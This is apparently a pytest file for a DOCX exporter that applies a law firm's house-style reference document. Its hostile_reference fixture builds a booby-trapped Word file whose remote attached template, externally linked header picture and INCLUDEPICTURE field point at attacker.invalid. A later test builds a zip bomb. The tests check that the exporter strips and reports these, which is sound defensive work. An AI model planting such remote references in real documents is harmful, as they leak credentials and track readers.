"""An organisation's reference document (house style): its headers, footers, heading numbering, page
set-up and styles are kept; what could harm a reader (remote templates, external links and pictures,
fields that fetch) is left out and reported; a reference missing parts still works."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.oxml.parser import parse_xml
from docx.shared import Cm

from socialpolicy.errors import InputError
from socialpolicy.export.docx import write_docx
from socialpolicy.export.docx_package import set_ppr
from tests.export.test_docx import W, fixture_doc, heading_list_formats, paragraphs

WNS = f'xmlns:w="{W}"'
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER_TEXT = "PRIVILEGED & CONFIDENTIAL \u2014 ATTORNEY WORK PRODUCT"
FOOTER_TEXT = "DMS 4411-2093 v3"


def _numbered_headings(document: docx.document.Document) -> None:
    """A firm's own heading numbering: "Article 1" for Heading 1 and "1.01" for Heading 2."""
    numbering = document.part.numbering_part.element
    first_num = numbering.find(f"{{{W}}}num")
    (first_num.addprevious if first_num is not None else numbering.append)(
        parse_xml(
            f'<w:abstractNum {WNS} w:abstractNumId="90"><w:multiLevelType w:val="multilevel"/>'
            '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="Heading1"/>'
            '<w:lvlText w:val="Article %1"/><w:lvlJc w:val="left"/></w:lvl>'
            '<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimalZero"/><w:pStyle w:val="Heading2"/>'
            '<w:lvlText w:val="%1.%2"/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
        )
    )
    numbering.append(parse_xml(f'<w:num {WNS} w:numId="90"><w:abstractNumId w:val="90"/></w:num>'))
    for name, level in (("Heading 1", 0), ("Heading 2", 1)):
        num_pr = set_ppr(document.styles[name].element, "numPr")
        num_pr.append(parse_xml(f'<w:ilvl {WNS} w:val="{level}"/>'))
        num_pr.append(parse_xml(f'<w:numId {WNS} w:val="90"/>'))


def house_reference(path: Path, *, numbered: bool = True) -> Path:
    """A law firm's reference: numbered headings, a confidentiality header, a document-management footer
    with a page number, Letter paper with 1-inch margins, and some body text of its own."""
    document = docx.Document()
    document.add_paragraph("This body text belongs to the template and must not reach an export.")
    if numbered:
        _numbered_headings(document)
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21.59), Cm(27.94)
    section.left_margin = section.right_margin = Cm(2.54)
    section.header.paragraphs[0].text = HEADER_TEXT
    footer = section.footer.paragraphs[0]
    footer.text = FOOTER_TEXT + "  Page "
    footer._p.append(
        parse_xml(f'<w:r {WNS}><w:fldChar w:fldCharType="begin"/></w:r>'.replace("<w:r ", "<w:r "))
    )
    footer._p.append(parse_xml(f'<w:r {WNS}><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'))
    footer._p.append(parse_xml(f'<w:r {WNS}><w:fldChar w:fldCharType="separate"/></w:r>'))
    footer._p.append(parse_xml(f"<w:r {WNS}><w:t>1</w:t></w:r>"))
    footer._p.append(parse_xml(f'<w:r {WNS}><w:fldChar w:fldCharType="end"/></w:r>'))
    document.save(str(path))
    return path


def test_house_headers_footers_and_numbering_are_kept_and_never_doubled(tmp_path: Path) -> None:
    reference = house_reference(tmp_path / "firm.docx")
    doc = fixture_doc("social-media-policy")
    out = tmp_path / "out.docx"
    assert write_docx(doc, out, reference=reference) == []
    result = docx.Document(str(out))
    section = result.sections[0]
    assert section.header.paragraphs[0].text == HEADER_TEXT
    footer = section.footer._element
    assert FOOTER_TEXT in "".join(t.text or "" for t in footer.iter(f"{{{W}}}t"))
    assert "PAGE" in "".join(t.text or "" for t in footer.iter(f"{{{W}}}instrText"))
    # The firm's own numbering stays on its headings; we add none, and no heading text carries a number.
    assert heading_list_formats(out) == ("Article %1", "%1.%2")
    headings = [t for s, t in paragraphs(out) if s in ("Heading 1", "Heading 2")]
    assert headings and not [t for t in headings if re.match(r"\d", t)]
    # Its page set-up, and none of its body.
    assert abs(section.page_width.cm - 21.59) < 0.01 and abs(section.left_margin.cm - 2.54) < 0.01
    assert not [t for _, t in paragraphs(out) if "belongs to the template" in t]


def test_a_reference_without_numbered_headings_gets_ours_and_keeps_its_header(tmp_path: Path) -> None:
    reference = house_reference(tmp_path / "plain.docx", numbered=False)
    out = tmp_path / "out.docx"
    write_docx(fixture_doc("governance-charter"), out, reference=reference)
    assert heading_list_formats(out) == ("%1.", "%1.%2")
    assert docx.Document(str(out)).sections[0].header.paragraphs[0].text == HEADER_TEXT


def test_a_review_copy_puts_its_legend_above_the_house_header(tmp_path: Path) -> None:
    reference = house_reference(tmp_path / "firm.docx")
    out = tmp_path / "review.docx"
    write_docx(fixture_doc("social-media-policy"), out, review=True, reference=reference)
    header = [p.text for p in docx.Document(str(out)).sections[0].header.paragraphs]
    assert header[:2] == ["DRAFT FOR LEGAL REVIEW", HEADER_TEXT]


def _rewrite(src: Path, dst: Path, edit: dict[str, bytes | None]) -> None:
    """Copy a .docx with some parts replaced (None removes a part)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename in edit:
                data = edit.pop(item.filename)
                if data is not None:
                    zout.writestr(item.filename, data)
                continue
            zout.writestr(item, zin.read(item))
        for name, data in edit.items():
            if data is not None:
                zout.writestr(name, data)


def hostile_reference(tmp_path: Path) -> Path:
    """A reference with a remote attached template (the hash-leak trick), an externally linked picture
    in its header, and an INCLUDEPICTURE field in its even-page header."""
    base = tmp_path / "base.docx"
    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "Acme LLP"
    document.settings.odd_and_even_pages_header_footer = True
    even = section.even_page_header
    even.is_linked_to_previous = False
    p = even.paragraphs[0]._p
    for xml in (
        '<w:r {ns}><w:t xml:space="preserve">Logo: </w:t></w:r>',
        '<w:r {ns}><w:fldChar w:fldCharType="begin"/></w:r>',
        '<w:r {ns}><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://attacker.invalid/p.png" \\d </w:instrText></w:r>',
        '<w:r {ns}><w:fldChar w:fldCharType="separate"/></w:r>',
        "<w:r {ns}><w:t>[picture]</w:t></w:r>",
        '<w:r {ns}><w:fldChar w:fldCharType="end"/></w:r>',
    ):
        p.append(parse_xml(xml.format(ns=WNS)))
    header_part = section.header.part
    rid = header_part.relate_to(
        "file://///attacker.invalid/share/logo.png",
        docx.opc.constants.RELATIONSHIP_TYPE.IMAGE,
        is_external=True,
    )
    section.header.paragraphs[0]._p.append(
        parse_xml(
            f'<w:r {WNS} xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            f'xmlns:r="{R_NS}"><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="logo"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            '<pic:nvPicPr><pic:cNvPr id="1" name="logo"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip r:link="{rid}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
            "</wp:inline></w:drawing></w:r>"
        )
    )
    settings = document.settings.element
    rid = document.part._settings_part.relate_to(
        "file://///attacker.invalid/templates/firm.dotm",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    settings.insert(0, parse_xml(f'<w:attachedTemplate {WNS} xmlns:r="{R_NS}" r:id="{rid}"/>'))
    document.save(str(base))
    return base


def test_a_hostile_reference_is_sanitised_and_what_was_removed_is_reported(tmp_path: Path) -> None:
    reference = hostile_reference(tmp_path)
    out = tmp_path / "out.docx"
    notes = write_docx(fixture_doc("governance-charter"), out, reference=reference)
    joined = " ".join(notes)
    assert "attacker.invalid/templates/firm.dotm" in joined and "was not linked" in joined
    assert "INCLUDEPICTURE field in its even-page header was replaced by the text it showed" in joined
    assert "link(s) to other files or sites in its header" in joined or "picture(s) in its header" in joined
    with zipfile.ZipFile(out) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"attacker.invalid" not in everything and b"INCLUDEPICTURE" not in everything
    assert b"attachedTemplate" not in everything and b'TargetMode="External"' not in everything
    result = docx.Document(str(out))
    assert result.sections[0].header.paragraphs[0].text.startswith("Acme LLP")
    even = "".join(t.text or "" for t in result.sections[0].even_page_header._element.iter(f"{{{W}}}t"))
    assert "Logo: [picture]" in even  # the field's shown text stays, the field does not


def test_a_reference_with_no_numbering_part_or_an_empty_body_still_exports(tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    document = docx.Document()
    body = document.element.body
    for child in list(body):
        if not child.tag.endswith("sectPr"):
            body.remove(child)
    document.save(str(plain))
    with zipfile.ZipFile(plain) as archive:
        types = archive.read("[Content_Types].xml").decode()
        rels = archive.read("word/_rels/document.xml.rels").decode()
    types = re.sub(r'<Override PartName="/word/numbering.xml"[^>]*/>', "", types)
    rels = re.sub(r'<Relationship [^>]*numbering.xml"/>', "", rels)
    bare = tmp_path / "bare.docx"
    _rewrite(
        plain,
        bare,
        {
            "word/numbering.xml": None,
            "[Content_Types].xml": types.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
        },
    )
    with zipfile.ZipFile(bare) as archive:
        assert "word/numbering.xml" not in archive.namelist()
    out = tmp_path / "out.docx"
    write_docx(fixture_doc("social-media-policy"), out, reference=bare)
    assert heading_list_formats(out) == ("%1.", "%1.%2")
    assert [t for s, t in paragraphs(out) if s == "List Bullet"]


def test_a_reference_that_is_not_a_word_file_is_one_clear_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.docx"
    with zipfile.ZipFile(bad, "w") as archive:
        archive.writestr("hello.txt", "not Word")
    with pytest.raises(InputError, match="not a Word document"):
        write_docx(fixture_doc("social-media-policy"), tmp_path / "out.docx", reference=bad)
    bomb = tmp_path / "bomb.docx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a>" + b"0" * (40 * 1024 * 1024) + b"</a>")
    bomb.write_bytes(buffer.getvalue())
    with pytest.raises(InputError, match=r"suspiciously|limit"):
        write_docx(fixture_doc("social-media-policy"), tmp_path / "out.docx", reference=bomb)
